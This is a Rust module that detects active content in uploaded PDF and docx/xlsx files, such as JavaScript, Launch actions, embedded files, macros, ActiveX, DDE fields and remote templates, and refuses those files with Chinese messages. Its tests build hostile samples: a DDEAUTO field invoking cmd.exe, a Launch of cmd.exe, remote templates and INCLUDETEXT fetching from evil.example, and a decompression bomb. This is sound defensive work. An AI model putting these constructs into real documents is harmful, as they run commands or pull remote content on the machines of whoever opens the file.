//! Active content in uploaded documents: what could run, submit data, open other files or fetch
//! content from the network when a reviewer or regulator opens the file. PDFs are parsed — object streams expanded, `#xx` escapes
//! in names decoded — so neither compression nor spelling hides a key from the check; Office files
//! are read as the package they are: the parts it holds and the relationships it declares.

use lopdf::{Dictionary, Document, Object, ObjectId};
use std::cell::Cell;
use std::io::Read;

/// The most the object streams of one PDF may inflate to: they hold the file's dictionaries,
/// megabytes at most; more is a decompression bomb.
const MAX_OBJECT_STREAM_BYTES: u64 = 64 * 1024 * 1024;

thread_local! {
    /// What the object streams of the PDF being read may still inflate to. The reader calls its
    /// filter on the thread that reads (lopdf is built without rayon).
    static INFLATE_BUDGET: Cell<u64> = const { Cell::new(0) };
    static OVER_BUDGET: Cell<bool> = const { Cell::new(false) };
}

/// Before lopdf inflates an object stream, its inflated size is measured (counted, not kept)
/// against what is left of the budget; one that would exceed it is dropped and remembered.
fn guard_object_streams(id: ObjectId, object: &mut Object) -> Option<(ObjectId, Object)> {
    if let Object::Stream(stream) = object
        && stream.dict.has_type(b"ObjStm")
    {
        let budget = INFLATE_BUDGET.get();
        match inflated_size(stream, budget) {
            Some(n) if n <= budget => INFLATE_BUDGET.set(budget - n),
            _ => {
                OVER_BUDGET.set(true);
                return None;
            }
        }
    }
    // lopdf keeps the object it passed for objects of the file, and the one returned for
    // objects inside object streams (never streams, so the copy is small).
    Some((id, object.clone()))
}

/// How many bytes `stream` inflates to, counting at most `limit + 1`; `None` for a filter an
/// object stream has no business using.
fn inflated_size(stream: &lopdf::Stream, limit: u64) -> Option<u64> {
    let filters = stream.filters().unwrap_or_default();
    match filters.as_slice() {
        [] => Some(stream.content.len() as u64),
        [f] if *f == b"FlateDecode" => {
            let decoder = flate2::read::ZlibDecoder::new(stream.content.as_slice());
            std::io::copy(&mut decoder.take(limit + 1), &mut std::io::sink()).ok()
        }
        _ => None,
    }
}

/// Why a PDF is refused, in the words shown next to its field; None when it holds nothing active.
pub fn pdf_problem(bytes: &[u8]) -> Option<&'static str> {
    INFLATE_BUDGET.set(MAX_OBJECT_STREAM_BYTES);
    OVER_BUDGET.set(false);
    let loaded = lopdf::Reader {
        buffer: bytes,
        document: Document::new(),
        encryption_state: None,
        raw_objects: Default::default(),
    }
    .read(Some(guard_object_streams));
    if OVER_BUDGET.get() {
        return Some("PDF 文件的压缩内容异常（解压后过大），请重新导出为 PDF 后上传");
    }
    let doc = match loaded {
        Ok(doc) => doc,
        Err(lopdf::Error::Decryption(_)) => {
            return Some("PDF 文件设有打开密码，请去除密码后上传");
        }
        Err(_) => return Some("PDF 文件无法解析，请用扫描或办公软件重新导出为 PDF 后上传"),
    };
    let mut found = None;
    for object in doc
        .objects
        .values()
        .chain(std::iter::once(&Object::Dictionary(doc.trailer.clone())))
    {
        visit(object, &mut |dict| {
            if found.is_none() {
                found = pdf_dictionary_problem(dict);
            }
        });
        if found.is_some() {
            break;
        }
    }
    found
}

/// Calls `f` on every dictionary inside `object` (stream dictionaries included).
fn visit(object: &Object, f: &mut impl FnMut(&Dictionary)) {
    match object {
        Object::Dictionary(dict) => {
            f(dict);
            for (_, value) in dict.iter() {
                visit(value, f);
            }
        }
        Object::Stream(stream) => {
            f(&stream.dict);
            for (_, value) in stream.dict.iter() {
                visit(value, f);
            }
        }
        Object::Array(items) => items.iter().for_each(|item| visit(item, f)),
        _ => {}
    }
}

fn pdf_dictionary_problem(dict: &Dictionary) -> Option<&'static str> {
    let name = |key: &[u8]| dict.get(key).ok().and_then(|o| o.as_name().ok());
    if dict.has(b"JS") || dict.has(b"JavaScript") || name(b"S") == Some(b"JavaScript") {
        Some("PDF 文件含有 JavaScript 脚本，不能上传；请打印为 PDF 或重新扫描后上传")
    } else if name(b"S") == Some(b"Launch") {
        Some("PDF 文件含有启动外部程序的动作（Launch），不能上传；请重新导出为 PDF 后上传")
    } else if dict.has(b"EmbeddedFiles")
        || dict.has(b"EF")
        || name(b"Type") == Some(b"EmbeddedFile")
        || name(b"Subtype") == Some(b"FileAttachment")
        || name(b"S") == Some(b"GoToE")
    {
        Some("PDF 文件内嵌了其他文件，不能上传；请把其中的文件分别上传")
    } else if matches!(name(b"S"), Some(b"SubmitForm" | b"ImportData")) {
        Some("PDF 文件含有向外提交或从外部导入数据的动作，不能上传；请打印为 PDF 后上传")
    } else if name(b"S") == Some(b"GoToR") {
        Some("PDF 文件含有打开其他文件的动作（GoToR），不能上传；请重新导出为 PDF 后上传")
    } else if name(b"Subtype") == Some(b"RichMedia") || dict.has(b"RichMediaContent") {
        Some("PDF 文件含有富媒体内容（RichMedia），不能上传；请重新导出为 PDF 后上传")
    } else if dict.has(b"XFA") {
        Some("PDF 文件是可含脚本的动态表单（XFA），不能上传；请打印为 PDF 后上传")
    } else {
        None
    }
}

/// Why an Office Open XML file (docx, xlsx) is refused; None when it holds nothing active.
/// Macros are found by the parts present and by what the package declares, whatever their
/// names; external relationships other than hyperlinks (an attached template, an external data
/// source, a linked object) make the file fetch content from the network when opened.
pub fn ooxml_problem(bytes: &[u8]) -> Option<&'static str> {
    const UNREADABLE: &str = "文件无法读取，请重新保存为 docx 或 xlsx 后上传";
    let Ok(mut archive) = zip::ZipArchive::new(std::io::Cursor::new(bytes)) else {
        return Some(UNREADABLE);
    };
    let Ok(parts) = archive
        .file_names()
        .map(|n| n.map(|n| n.into_owned()))
        .collect::<Result<Vec<String>, _>>()
    else {
        return Some(UNREADABLE);
    };
    let names: Vec<String> = parts.iter().map(|n| n.to_ascii_lowercase()).collect();
    let macro_part = names.iter().any(|n| {
        n.ends_with("vbaproject.bin")
            || n.ends_with("vbadata.xml")
            || n.starts_with("xl/macrosheets/")
            || n.starts_with("xl/dialogsheets/")
    });
    let Some(types) = read_part(&mut archive, "[Content_Types].xml") else {
        return Some(UNREADABLE);
    };
    let types = types.to_ascii_lowercase();
    if macro_part
        || types.contains("macroenabled")
        || types.contains("vbaproject")
        || types.contains("ms-excel.macrosheet")
    {
        return Some("文件含有宏（VBA），不能上传；请另存为不含宏的 docx 或 xlsx 后上传");
    }
    if names.iter().any(|n| n.contains("activex/")) || types.contains("activex") {
        return Some("文件含有 ActiveX 控件，不能上传；请删除控件后重新保存上传");
    }
    for part in parts.iter().filter(|n| {
        let n = n.to_ascii_lowercase();
        n.starts_with("word/") && n.ends_with(".xml")
    }) {
        let Some(xml) = read_part(&mut archive, part) else {
            return Some(UNREADABLE);
        };
        match fetching_field(&xml) {
            Ok(false) => {}
            Ok(true) => {
                return Some(
                    "文件含有会自动更新的外部域代码（DDE、INCLUDETEXT 等），不能上传；请删除这些域后重新保存上传",
                );
            }
            Err(()) => return Some(UNREADABLE),
        }
    }
    let rels = parts
        .iter()
        .filter(|n| n.to_ascii_lowercase().ends_with(".rels"));
    for part in rels {
        let Some(xml) = read_part(&mut archive, part) else {
            return Some(UNREADABLE);
        };
        match external_relationship(&xml) {
            Ok(false) => {}
            Ok(true) => {
                return Some(
                    "文件引用了外部资源（如附加模板、外部数据源或链接对象），打开时会从网络加载内容，不能上传；请去除外部引用后重新保存上传",
                );
            }
            Err(()) => return Some(UNREADABLE),
        }
    }
    None
}

/// A part of the package as text, at most 4 MB.
fn read_part(archive: &mut zip::ZipArchive<std::io::Cursor<&[u8]>>, name: &str) -> Option<String> {
    let entry = archive.by_name(name).ok()?;
    let mut text = String::new();
    entry.take(4 * 1024 * 1024).read_to_string(&mut text).ok()?;
    Some(text)
}

/// Whether a Word part holds a field that fetches or runs something when the document is opened
/// or updated: `DDE`, `DDEAUTO`, `INCLUDETEXT`, `INCLUDEPICTURE` (in `w:instrText` runs or a
/// `w:fldSimple`'s `w:instr`).
fn fetching_field(xml: &str) -> Result<bool, ()> {
    use quick_xml::events::Event;
    const FETCHING: [&str; 4] = ["DDEAUTO", "DDE", "INCLUDETEXT", "INCLUDEPICTURE"];
    let fetches = |code: &str| {
        let first = code.split_whitespace().next().unwrap_or_default();
        FETCHING.iter().any(|f| first.eq_ignore_ascii_case(f))
    };
    let mut reader = quick_xml::Reader::from_str(xml);
    let mut in_instr = false;
    let mut instr = String::new();
    loop {
        match reader.read_event().map_err(|_| ())? {
            Event::Start(e) if e.local_name().as_ref() == "instrText" => {
                in_instr = true;
            }
            Event::End(e) if e.local_name().as_ref() == "instrText" => in_instr = false,
            Event::Text(t) if in_instr => {
                instr.push_str(&t.xml_content(quick_xml::XmlVersion::Implicit1_0));
            }
            Event::Start(e) | Event::Empty(e) if e.local_name().as_ref() == "fldSimple" => {
                for attr in e.attributes() {
                    let attr = attr.map_err(|_| ())?;
                    if attr.key.local_name().as_ref() == "instr" {
                        let value = attr
                            .normalized_value(quick_xml::XmlVersion::Implicit1_0)
                            .map_err(|_| ())?;
                        if fetches(&value) {
                            return Ok(true);
                        }
                    }
                }
            }
            // A field's code may be split over several runs; it ends with the field.
            Event::Empty(e) if e.local_name().as_ref() == "fldChar" => {
                if fetches(&instr) {
                    return Ok(true);
                }
                instr.clear();
            }
            Event::Eof => return Ok(fetches(&instr)),
            _ => {}
        }
    }
}

/// Whether a relationships part declares an external target other than a hyperlink.
fn external_relationship(xml: &str) -> Result<bool, ()> {
    use quick_xml::events::Event;
    let mut reader = quick_xml::Reader::from_str(xml);
    loop {
        match reader.read_event().map_err(|_| ())? {
            Event::Start(e) | Event::Empty(e) if e.local_name().as_ref() == "Relationship" => {
                let mut external = false;
                let mut hyperlink = false;
                for attr in e.attributes() {
                    let attr = attr.map_err(|_| ())?;
                    let value = attr
                        .normalized_value(quick_xml::XmlVersion::Implicit1_0)
                        .map_err(|_| ())?;
                    match attr.key.local_name().as_ref() {
                        "TargetMode" => external = value.eq_ignore_ascii_case("External"),
                        "Type" => hyperlink = value.ends_with("/hyperlink"),
                        _ => {}
                    }
                }
                if external && !hyperlink {
                    return Ok(true);
                }
            }
            Event::Eof => return Ok(false),
            _ => {}
        }
    }
}

#[cfg(test)]
pub(crate) mod tests {
    use super::*;
    use lopdf::{Stream, dictionary};
    use std::io::Write;

    /// A one-page PDF whose catalog gets `extra`, written plainly or with object streams.
    fn pdf(extra: Dictionary, object_streams: bool) -> Vec<u8> {
        let mut doc = Document::with_version("1.7");
        let pages_id = doc.new_object_id();
        let page_id = doc.add_object(dictionary! {
            "Type" => "Page",
            "Parent" => pages_id,
            "MediaBox" => vec![0.into(), 0.into(), 595.into(), 842.into()],
        });
        doc.objects.insert(
            pages_id,
            Object::Dictionary(dictionary! {
                "Type" => "Pages",
                "Kids" => vec![page_id.into()],
                "Count" => 1,
            }),
        );
        // Each extra entry is an object of its own, as writers store actions and name trees.
        let mut catalog = dictionary! { "Type" => "Catalog", "Pages" => pages_id };
        for (k, v) in extra.iter() {
            let id = doc.add_object(v.clone());
            catalog.set(k.clone(), id);
        }
        let catalog_id = doc.add_object(catalog);
        doc.trailer.set("Root", catalog_id);
        let mut out = Vec::new();
        if object_streams {
            let options = lopdf::SaveOptions::builder()
                .use_object_streams(true)
                .use_xref_streams(true)
                .compression_level(6)
                .build();
            doc.save_with_options(&mut out, options).unwrap();
        } else {
            doc.save_to(&mut out).unwrap();
        }
        out
    }

    fn js_action() -> Dictionary {
        dictionary! { "S" => "JavaScript", "JS" => Object::string_literal("app.alert(1)") }
    }

    #[test]
    fn a_plain_pdf_passes() {
        assert_eq!(pdf_problem(&pdf(Dictionary::new(), false)), None);
        assert_eq!(pdf_problem(&pdf(Dictionary::new(), true)), None);
    }

    #[test]
    fn javascript_is_found_however_it_is_written() {
        let open = dictionary! { "OpenAction" => js_action() };
        for compressed in [false, true] {
            let bytes = pdf(open.clone(), compressed);
            assert!(
                pdf_problem(&bytes).unwrap().contains("JavaScript"),
                "object streams: {compressed}"
            );
            if compressed {
                // Inside a compressed object stream the words are not in the file's bytes.
                assert!(!bytes.windows(10).any(|w| w == b"JavaScript"));
            }
        }
        // Name escapes: /J#61vaScript is /JavaScript to a reader.
        let escaped = raw_pdf(&[
            "<< /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >>",
            "<< /Type /Pages /Kids [] /Count 0 >>",
            "<< /S /J#61vaScript /J#53 (app.alert(1)) >>",
        ]);
        assert!(pdf_problem(&escaped).unwrap().contains("JavaScript"));
    }

    /// A PDF of `objects` (numbered from 1, the first the catalog) with a correct xref table.
    pub(crate) fn raw_pdf(objects: &[&str]) -> Vec<u8> {
        let objects: Vec<Vec<u8>> = objects.iter().map(|o| o.as_bytes().to_vec()).collect();
        raw_pdf_bytes(&objects)
    }

    fn raw_pdf_bytes(objects: &[Vec<u8>]) -> Vec<u8> {
        let mut out = b"%PDF-1.4\n".to_vec();
        let mut offsets = Vec::new();
        for (i, body) in objects.iter().enumerate() {
            offsets.push(out.len());
            out.extend_from_slice(format!("{} 0 obj\n", i + 1).as_bytes());
            out.extend_from_slice(body);
            out.extend_from_slice(b"\nendobj\n");
        }
        let xref = out.len();
        out.extend_from_slice(
            format!("xref\n0 {}\n0000000000 65535 f \n", objects.len() + 1).as_bytes(),
        );
        for offset in offsets {
            out.extend_from_slice(format!("{offset:010} 00000 n \n").as_bytes());
        }
        out.extend_from_slice(
            format!(
                "trailer\n<< /Size {} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n",
                objects.len() + 1
            )
            .as_bytes(),
        );
        out
    }

    #[test]
    fn an_object_stream_inflating_past_the_budget_is_refused_unread() {
        use std::io::Write as _;
        let mut zeros = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::fast());
        let block = vec![0u8; 1 << 20];
        for _ in 0..65 {
            zeros.write_all(&block).unwrap();
        }
        let data = zeros.finish().unwrap();
        let mut stream = format!(
            "<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length {} >>\nstream\n",
            data.len()
        )
        .into_bytes();
        stream.extend_from_slice(&data);
        stream.extend_from_slice(b"\nendstream");
        let bytes = raw_pdf_bytes(&[
            b"<< /Type /Catalog /Pages 2 0 R >>".to_vec(),
            b"<< /Type /Pages /Kids [] /Count 0 >>".to_vec(),
            stream,
        ]);
        assert!(pdf_problem(&bytes).unwrap().contains("压缩内容异常"));
        // The budget is per document: the next one starts afresh.
        assert_eq!(pdf_problem(&pdf(Dictionary::new(), true)), None);
    }

    #[test]
    fn launch_actions_embedded_files_and_xfa_are_refused() {
        let launch = dictionary! {
            "OpenAction" => dictionary! { "S" => "Launch", "F" => Object::string_literal("cmd.exe") },
        };
        assert!(pdf_problem(&pdf(launch, true)).unwrap().contains("Launch"));
        // An embedded file: a name tree naming a file specification.
        let mut doc_with_file = Dictionary::new();
        doc_with_file.set(
            "Names",
            dictionary! {
                "EmbeddedFiles" => dictionary! {
                    "Names" => vec![
                        Object::string_literal("a.exe"),
                        Object::Dictionary(dictionary! {
                            "Type" => "Filespec",
                            "F" => Object::string_literal("a.exe"),
                        }),
                    ],
                },
            },
        );
        assert!(
            pdf_problem(&pdf(doc_with_file, true))
                .unwrap()
                .contains("内嵌了其他文件")
        );
        // The file's own stream, wherever it is referenced from.
        let mut doc = Document::load_mem(&pdf(Dictionary::new(), false)).unwrap();
        doc.add_object(Stream::new(
            dictionary! { "Type" => "EmbeddedFile" },
            b"MZ payload".to_vec(),
        ));
        let mut bytes = Vec::new();
        doc.save_to(&mut bytes).unwrap();
        assert!(pdf_problem(&bytes).unwrap().contains("内嵌了其他文件"));
        let xfa = dictionary! {
            "AcroForm" => dictionary! { "Fields" => Vec::<Object>::new(), "XFA" => Object::string_literal("<xdp/>") },
        };
        assert!(pdf_problem(&pdf(xfa, false)).unwrap().contains("XFA"));
        for (action, named) in [
            ("SubmitForm", "提交"),
            ("ImportData", "导入"),
            ("GoToR", "GoToR"),
        ] {
            let open = dictionary! {
                "OpenAction" => dictionary! { "S" => action, "F" => Object::string_literal("http://evil.example/") },
            };
            assert!(
                pdf_problem(&pdf(open, true)).unwrap().contains(named),
                "{action}"
            );
        }
        assert!(pdf_problem(b"%PDF-1.4\nnot really").is_some());
    }

    /// A minimal docx with `extra` parts and the given document relationships.
    fn docx(types_extra: &str, rels: &str, extra: &[(&str, &[u8])]) -> Vec<u8> {
        let mut out = std::io::Cursor::new(Vec::new());
        let mut zip = zip::ZipWriter::new(&mut out);
        let options = zip::write::SimpleFileOptions::default();
        let mut put = |name: &str, body: &[u8]| {
            zip.start_file(name, options).unwrap();
            zip.write_all(body).unwrap();
        };
        put(
            "[Content_Types].xml",
            format!(
                r#"<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/>{types_extra}</Types>"#
            )
            .as_bytes(),
        );
        put("word/document.xml", b"<w:document/>");
        put(
            "word/_rels/document.xml.rels",
            format!(
                r#"<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{rels}</Relationships>"#
            )
            .as_bytes(),
        );
        for (name, body) in extra {
            put(name, body);
        }
        zip.finish().unwrap();
        out.into_inner()
    }

    const LINK: &str = r#"<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://sthj.sh.gov.cn/" TargetMode="External"/>"#;

    #[test]
    fn office_macros_activex_and_external_references_are_refused() {
        // Hyperlinks are fine.
        assert_eq!(ooxml_problem(&docx("", LINK, &[])), None);
        // A macro part, whatever the package declares about it.
        let hidden = docx(
            r#"<Default Extension="bin" ContentType="application/octet-stream"/>"#,
            "",
            &[("word/vbaProject.bin", b"\xd0\xcf\x11\xe0")],
        );
        assert!(ooxml_problem(&hidden).unwrap().contains("宏"));
        let declared = docx(
            r#"<Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>"#,
            "",
            &[],
        );
        assert!(ooxml_problem(&declared).unwrap().contains("宏"));
        let activex = docx("", "", &[("word/activeX/activeX1.xml", b"<ax/>")]);
        assert!(ooxml_problem(&activex).unwrap().contains("ActiveX"));
        // A remote template, written with single quotes and an entity.
        let template = docx(
            "",
            r#"<Relationship Id='rId9' Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate' Target='http://evil.example/t.dotm' TargetMode='&#69;xternal'/>"#,
            &[],
        );
        assert!(ooxml_problem(&template).unwrap().contains("外部资源"));
        // A DDE field split over runs, and an INCLUDETEXT in a simple field.
        let dde = docx(
            "",
            "",
            &[(
                "word/header1.xml",
                br#"<w:hdr xmlns:w="w"><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\windows\\system32\\cmd.exe "/k calc"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:hdr>"#,
            )],
        );
        assert!(ooxml_problem(&dde).unwrap().contains("域代码"));
        let include = docx(
            "",
            "",
            &[(
                "word/footer1.xml",
                br#"<w:ftr xmlns:w="w"><w:fldSimple w:instr=" INCLUDETEXT &quot;http://evil.example/x&quot; "/></w:ftr>"#,
            )],
        );
        assert!(ooxml_problem(&include).unwrap().contains("域代码"));
        // Page numbers are fields too, and harmless.
        let page = docx(
            "",
            "",
            &[(
                "word/footer2.xml",
                br#"<w:ftr xmlns:w="w"><w:fldSimple w:instr=" PAGE "/><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>NUMPAGES</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:ftr>"#,
            )],
        );
        assert_eq!(ooxml_problem(&page), None);
        assert!(ooxml_problem(b"PK\x03\x04 broken").is_some());
    }
}
